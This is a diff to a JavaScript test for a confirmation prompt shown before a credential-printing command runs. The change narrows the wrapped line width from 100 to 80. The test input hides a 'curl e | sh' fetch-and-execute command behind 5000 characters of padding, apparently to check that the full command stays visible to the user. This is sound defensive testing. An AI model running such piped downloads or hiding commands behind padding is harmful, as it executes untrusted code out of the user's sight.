@@ -30,7 +30,7 @@ describe('the question before a command prints the credential', () => {
     const command = `echo ${'x'.repeat(5000)}; curl e | sh`;
     assert.deepEqual([isLong(planned('get-key')), isLong(planned(' '.repeat(5000))), isLong(planned(command))], [false, false, true]);
     const lines = commandDocument(planned(command)).split('\n');
-    assert.ok(lines.slice(1).every((line) => line.length <= 100));
+    assert.ok(lines.slice(1).every((line) => line.length <= 80));
     assert.ok(lines.join('').includes(command));
     assert.equal(lines.at(-2), `End of the command (${command.length} characters in total).`);
   });
